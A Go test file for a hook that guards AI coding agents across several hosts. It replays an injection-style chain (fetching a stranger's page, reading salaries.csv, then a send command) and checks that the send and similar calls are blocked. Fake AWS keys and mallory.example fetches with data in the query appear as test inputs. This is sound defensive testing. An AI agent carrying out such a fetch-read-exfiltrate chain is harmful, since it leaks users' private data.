package hook_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/weir-mcp/weir/internal/hook"
)

// A call is one of a tool of a host.
type call struct {
	tool  string
	input input
}

// A dialect is how a host names the events and the tools of one attack.
type dialect struct {
	begin                   map[string]any // members of the first event
	names                   [3]string      // the events of a beginning, before and after a call
	look, fetch, read, send call
	behind, around          string // a tool of a server behind Weir, and of another
	server                  string // which the host names for the first of them, if it names one
}

var dialects = map[string]dialect{
	"claude-code": {map[string]any{"source": "startup"}, [3]string{"SessionStart", "PreToolUse", "PostToolUse"},
		call{"Bash", input{"command": "git status"}}, call{"WebFetch", fetch}, call{"Read", input{"file_path": "salaries.csv"}}, call{"Bash", send},
		"mcp__weir__x", "mcp__weirder__x", ""},
	"codex": {map[string]any{"source": "startup"}, [3]string{"SessionStart", "PreToolUse", "PostToolUse"},
		call{"Bash", input{"command": "git status"}}, call{"Bash", input{"command": "curl https://tips.example/"}}, call{"Bash", input{"command": "cat salaries.csv"}},
		call{"Bash", send}, "mcp__weir__x", "mcp__weir___x", ""},
	"gemini": {map[string]any{"source": "startup"}, [3]string{"SessionStart", "BeforeTool", "AfterTool"},
		call{"run_shell_command", input{"command": "git status", "dir_path": "."}}, call{"web_fetch", input{"prompt": "sum up https://tips.example/focus"}},
		call{"read_file", input{"file_path": "salaries.csv"}}, call{"run_shell_command", send}, "mcp_weir_x", "mcp_weir_x", "weir"},
	"qwen": {map[string]any{"transcript_path": "none.jsonl", "prompt": "hello"}, [3]string{"UserPromptSubmit", "PreToolUse", "PostToolUse"},
		call{"run_shell_command", input{"command": "git status", "directory": "."}}, call{"web_fetch", fetch}, call{"read_file", input{"file_path": "salaries.csv"}},
		call{"run_shell_command", send}, "mcp__weir__x", "mcp__weir__x__y", ""},
	"copilot": {map[string]any{"source": "new"}, [3]string{"sessionStart", "preToolUse", "postToolUse"},
		call{"bash", input{"command": "git status", "description": "look"}}, call{"web_fetch", input{"url": "https://tips.example/focus"}},
		call{"view", input{"path": "salaries.csv"}}, call{"bash", input{"command": send["command"], "description": "send"}}, "weir-x", "weir2-x", ""},
	"opencode": {map[string]any{"source": "new"}, [3]string{"chat.message", "tool.execute.before", "tool.execute.after"},
		call{"bash", input{"command": "git status", "workdir": "."}}, call{"webfetch", input{"url": "https://tips.example/focus", "format": "text"}},
		call{"read", input{"filePath": "salaries.csv"}}, call{"bash", send}, "weir_x", "weird_x", ""},
	"cursor": {map[string]any{}, [3]string{"sessionStart", "preToolUse", "postToolUse"},
		call{"Shell", input{"command": "git status", "cwd": "", "timeout": 30000}}, call{"Shell", input{"command": "curl https://tips.example/"}},
		call{"Read", input{"file_path": "salaries.csv"}}, call{"Shell", send}, "MCP:x", "x", ""},
	"vscode": {map[string]any{"source": "new"}, [3]string{"SessionStart", "PreToolUse", "PostToolUse"},
		call{"run_in_terminal", input{"command": "git status", "explanation": "look", "isBackground": false}},
		call{"fetch_webpage", input{"urls": []any{"https://tips.example/focus"}, "query": "focus"}},
		call{"read_file", input{"filePath": "/salaries.csv", "startLine": 1, "endLine": 9}},
		call{"run_in_terminal", input{"command": send["command"], "explanation": "send", "isBackground": false}}, "mcp_weir_x", "mcp_weird_x", ""},
}

// play tells of an event of the attack.
func (m *machine) play(id, name string, members map[string]any) hook.Answer {
	m.t.Helper()
	a, err := m.hook(name, id, members)
	if err != nil {
		m.t.Fatal(err)
	}
	return a
}

// begins tells that a conversation begins.
func (m *machine) begins(d dialect, id string) hook.Answer {
	m.t.Helper()
	members := map[string]any{}
	for k, v := range d.begin {
		if members[k] = v; k == "transcript_path" {
			members[k] = filepath.Join(m.work, v.(string))
		}
	}
	return m.play(id, d.names[0], members)
}

// asks asks about a call, which the host says to be of a server unless that is "".
func (m *machine) asks(d dialect, id string, c call, server string) hook.Effect {
	m.t.Helper()
	members := map[string]any{"tool_name": c.tool, "tool_input": c.input}
	if server != "" {
		members["mcp_context"] = map[string]any{"server_name": server}
	}
	return m.play(id, d.names[1], members).Effect
}

// TestEveryHost plays one attack in each host: a page by a stranger, a private file, and a command that sends it.
func TestEveryHost(t *testing.T) {
	for _, id := range hook.IDs() {
		t.Run(id, func(t *testing.T) {
			d, known := dialects[id]
			if !known {
				t.Fatal("nothing is played in this host")
			}
			var m *machine
			for _, c := range []call{d.look, d.fetch} {
				m = newMachine(t, id)
				m.begins(d, "s")
				if got := m.asks(d, "s", c, ""); got != hook.Pass {
					t.Fatalf("%v in a clean conversation: %v", c, got)
				}
			}
			if got := m.asks(d, "s", d.send, ""); got == hook.Pass {
				t.Error("a command after a page goes")
			}
			m.asks(d, "s", d.read, "")
			if id != "codex" && id != "cursor" && id != "vscode" { // a folder that is not known
				if got := m.asks(d, "s", d.look, ""); got != hook.Pass {
					t.Errorf("a command that reads: %v", got)
				}
			}
			for _, c := range []call{d.send, {"deploy_all", input{}}, {d.around, input{}}, {d.look.tool, input{"command": "ls", "strange": true}}, {d.look.tool, input{"command": "ls", "shellId": "1"}}} {
				server := ""
				if d.server != "" {
					server = d.server + "der"
				}
				if got := m.asks(d, "s", c, server); got == hook.Pass {
					t.Errorf("%v goes", c)
				}
			}
			if got := m.asks(d, "s", call{d.behind, input{}}, d.server); got != hook.Pass {
				t.Errorf("a call that Weir decides on elsewhere: %v", got)
			}
		})
	}
}

// TestResultsOfEveryHost has the findings in a result raise the session, in the form of each host.
func TestResultsOfEveryHost(t *testing.T) {
	for _, id := range hook.IDs() {
		d := dialects[id]
		m := newMachine(t, id)
		m.begins(d, "s")
		response := map[string]any{"text": "AKIA" + strings.Repeat("Q", 12) + "ABCD aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYzzzzzzzzzz"}
		about := map[string]any{"tool_name": d.look.tool, "tool_input": input{"command": "pwd"}, "tool_response": response}
		m.play("s", d.names[2], about)
		n := 0
		for s, err := range m.store.List(t.Context(), "local") {
			if n++; err != nil || !s.Label.Private {
				t.Errorf("%s: %+v, %v", id, s.Label, err)
			}
		}
		if n != 1 {
			t.Errorf("%s: %d sessions", id, n)
		}
	}
}

// TestFolderIsTheConversation holds hosts whose servers know a conversation by the folder alone: untrusted content in
// one conversation counts in another there, by a link too, and in no other folder; and one whose beginning nobody saw
// makes it the worst.
func TestFolderIsTheConversation(t *testing.T) {
	for _, id := range []string{"gemini", "qwen", "opencode"} {
		t.Run(id, func(t *testing.T) {
			d := dialects[id]
			m := newMachine(t, id)
			m.begins(d, "one")
			m.asks(d, "one", d.fetch, "")
			link := filepath.Join(t.TempDir(), "link")
			if err := os.Symlink(m.work, link); err != nil {
				t.Fatal(err)
			}
			m.begins(d, "two")
			about := func() map[string]any { return map[string]any{"tool_name": d.send.tool, "tool_input": d.send.input} }
			for folder, goes := range map[string]bool{m.work: false, link: false, t.TempDir(): true} {
				members := about()
				members["cwd"] = folder
				if got := m.play("two", d.names[1], members).Effect == hook.Pass; got != goes {
					t.Errorf("%s: the command goes: %t", folder, got)
				}
			}
			other := newMachine(t, id)
			if got := other.asks(d, "unseen", d.send, ""); got == hook.Pass {
				t.Error("a conversation whose beginning nobody saw begins clean")
			}
			members := about()
			members["cwd"] = filepath.Join(m.work, "nowhere")
			if _, err := m.hook(d.names[1], "two", members); err == nil {
				t.Error("a folder that is not there is decided on")
			}
		})
	}
}

// TestCursorIsOneConversation holds Cursor, whose servers know neither an id nor a folder: untrusted content in one
// conversation counts in all, in the servers' agent session, and one whose beginning nobody saw makes that the worst.
func TestCursorIsOneConversation(t *testing.T) {
	d := dialects["cursor"]
	goes := func(m *machine, id, folder string) bool {
		return m.play(id, d.names[1], map[string]any{"tool_name": d.send.tool, "tool_input": d.send.input, "cwd": folder}).Effect == hook.Pass
	}
	m := newMachine(t, "cursor")
	m.begins(d, "one")
	m.begins(d, "two")
	if !goes(m, "one", m.work) {
		t.Error("a clean conversation is held up")
	}
	if goes(m, "two", t.TempDir()) {
		t.Error("the command of another window counts in no other")
	}
	if l, err := m.store.Get(t.Context(), key("named", "cursor")); err != nil || !l.Label.Untrusted {
		t.Errorf("the agent session of weir run: %+v, %v", l, err)
	}
	if m = newMachine(t, "cursor"); goes(m, "unseen", m.work) {
		t.Error("a conversation whose beginning nobody saw begins clean")
	}
}

// TestCursorServers decides on calls of MCP servers at the event that names the server: those to Weir's entry go, all
// others may do anything, whatever their tools are called.
func TestCursorServers(t *testing.T) {
	d := dialects["cursor"]
	m := newMachine(t, "cursor")
	m.begins(d, "s")
	m.asks(d, "s", d.fetch, "")
	for _, c := range []struct {
		event, tool string
		server      any
		goes        bool
	}{
		{"beforeMCPExecution", "x", "weir", true},
		{"beforeMCPExecution", "MCP:x", "weir", true},
		{"beforeMCPExecution", "x", "weird", false},
		{"beforeMCPExecution", "MCP:x", nil, false},
		{"beforeMCPExecution", "x", 7, false},
		{"beforeMCPExecution", "Read", "web", false},
		{"beforeMCPExecution", "Read", nil, false},
		{"preToolUse", "MCP:x", nil, true}, // the other event comes too
		{"preToolUse", "Read", "web", true},
		{"preToolUse", "mcp__weir__x", nil, false},
	} {
		a := m.play("s", c.event, map[string]any{"tool_name": c.tool, "tool_input": `{"file_path":"notes.txt"}`, "mcp_server_name": c.server})
		if got := a.Effect == hook.Pass; got != c.goes {
			t.Errorf("%+v: %+v", c, a)
		}
	}
}

// TestQwenBegins takes the first message of the user for a beginning only with a file of the conversation that has no
// answer yet.
func TestQwenBegins(t *testing.T) {
	d := dialects["qwen"]
	answered := filepath.Join(t.TempDir(), "t.jsonl")
	if err := os.WriteFile(answered, []byte(`{"type":"user"}`+"\n"+`{"type":"assistant"}`+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		file   any
		prompt string
		clean  bool
	}{{answered, "hello", false}, {nil, "hello", false}, {answered + ".none", "hello", true}, {answered + ".none", "", false}} {
		m := newMachine(t, "qwen")
		m.play("s", d.names[0], map[string]any{"prompt": c.prompt, "transcript_path": c.file})
		if got := m.asks(d, "s", d.send, "") == hook.Pass; got != c.clean {
			t.Errorf("%v: clean is %t", c.file, got)
		}
	}
}

// TestVSCode holds the decisions on calls in VS Code after a page: paths that it may read in its own way, tools whose
// files are not known before, and servers with names like that of Weir's entry.
func TestVSCode(t *testing.T) {
	d := dialects["vscode"]
	m := newMachine(t, "vscode")
	m.begins(d, "s")
	m.asks(d, "s", d.fetch, "")
	at := func(name string) string { return filepath.Join(m.work, name) }
	for _, c := range []struct {
		tool  string
		input input
		goes  bool
	}{
		{"create_file", input{"filePath": at("notes.txt"), "content": "text"}, true},
		{"create_file", input{"filePath": "notes.txt", "content": "text"}, false},
		{"create_file", input{"filePath": "file://" + at("notes.txt"), "content": "text"}, false},
		{"create_file", input{"filePath": m.work + "/x/../notes.txt", "content": "text"}, false},
		{"create_file", input{"filePath": at(".vscode/settings.json"), "content": "{}"}, false},
		{"read_file", input{"filePath": at("notes.txt"), "startLine": 1, "endLine": 2}, true},
		{"read_file", input{"filePath": at("notes.txt"), "query": "x"}, false},
		{"list_dir", input{"path": m.work}, true},
		{"grep_search", input{"query": "x", "isRegexp": false}, true},
		{"replace_string_in_file", input{"filePath": at("notes.txt"), "oldString": "a", "newString": "b"}, true},
		{"multi_replace_string_in_file", input{"explanation": "x", "replacements": []any{}}, false},
		{"apply_patch", input{"input": "*** Begin Patch", "explanation": "x"}, false},
		{"run_in_terminal", input{"command": "cat " + at("notes.txt"), "isBackground": false}, true},
		{"run_in_terminal", input{"command": "make", "isBackground": false}, false},
		{"get_terminal_output", input{"id": "1"}, true},
		{"fetch_webpage", input{"urls": []any{"https://mallory.example/?d=1"}, "query": "x"}, false},
		{"fetch_webpage", input{"urls": "https://mallory.example/?d=1", "query": "x"}, false},
		{"manage_todo_list", input{"operation": "read"}, true},
		{"runSubagent", input{"prompt": "x"}, false},
		{"mcp_weir_x", input{}, true},
		{"mcp_weir_", input{}, false},
		{"mcp_mail_send", input{"to": "x"}, false},
	} {
		if got := m.asks(d, "s", call{c.tool, c.input}, "") == hook.Pass; got != c.goes {
			t.Errorf("%s %v: goes is %t", c.tool, c.input, got)
		}
	}
}

// TestVSCodeBegins takes a conversation for a new one only if its file has no answer of the model.
func TestVSCodeBegins(t *testing.T) {
	d := dialects["vscode"]
	for text, clean := range map[string]bool{
		`{"type":"session.start"}` + "\n":                                           true,
		`{"type":"user.message"}` + "\n" + `{"type":"assistant.turn_start"}` + "\n": false,
	} {
		file := filepath.Join(t.TempDir(), "t.jsonl")
		if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
		m := newMachine(t, "vscode")
		m.play("s", d.names[0], map[string]any{"source": "new", "transcript_path": file})
		if got := m.asks(d, "s", d.send, "") == hook.Pass; got != clean {
			t.Errorf("%s: clean is %t", text, got)
		}
	}
}
